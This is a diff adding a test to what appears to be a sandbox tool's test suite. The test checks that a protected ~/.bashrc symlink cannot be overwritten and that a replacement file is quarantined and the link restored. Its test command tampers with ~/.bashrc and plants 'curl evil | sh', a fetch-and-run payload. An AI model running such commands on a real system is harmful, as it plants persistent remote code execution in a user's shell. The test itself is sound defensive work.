@@ -442,3 +442,28 @@ def test_allow_write_on_another_filesystem(fence, other_filesystem, deny_read):
     r = sh(fence, work, f"echo across > {target}/f && cat {target}/f && touch {other_filesystem}/outside-{fence.name}")
     assert (target / "f").read_text() == "across\n", r.stderr
     assert not (other_filesystem / f"outside-{fence.name}").exists()
+
+
+def test_protected_symlink_cannot_be_replaced(fence):
+    """A dotfile manager's ~/.bashrc -> dotfiles/bashrc: the target is read-only, and a replaced link is
+    moved aside and restored after the run."""
+    home = Path(fence.home)
+    dotfiles = home / f"dotfiles-{uuid.uuid4().hex[:6]}"
+    real = _put(fence, dotfiles / "bashrc", "# managed\n")
+    link = home / ".bashrc"
+    link.unlink(missing_ok=True)
+    os.symlink(real, link)
+    os.lchown(link, *((pwd.getpwnam(fence.user).pw_uid, pwd.getpwnam(fence.user).pw_gid) if fence.user else (0, 0)))
+    try:
+        work = _workspace(fence, {"allowWrite": [".", "~"]})
+        r = sh(fence, work, "echo evil >> ~/.bashrc; rm -f ~/.bashrc && echo 'curl evil | sh' > ~/.bashrc; echo done")
+        assert "done" in r.stdout, r.stderr
+        assert real.read_text() == "# managed\n"
+        assert link.is_symlink() and os.readlink(link) == str(real)
+        moved = list(home.glob(".bashrc.fence-quarantine-*"))
+        assert len(moved) == 1 and moved[0].read_text() == "curl evil | sh\n"
+        assert "protected path" in r.stderr
+    finally:
+        link.unlink(missing_ok=True)
+        for stale in home.glob(".bashrc.fence-quarantine-*"):
+            stale.unlink()
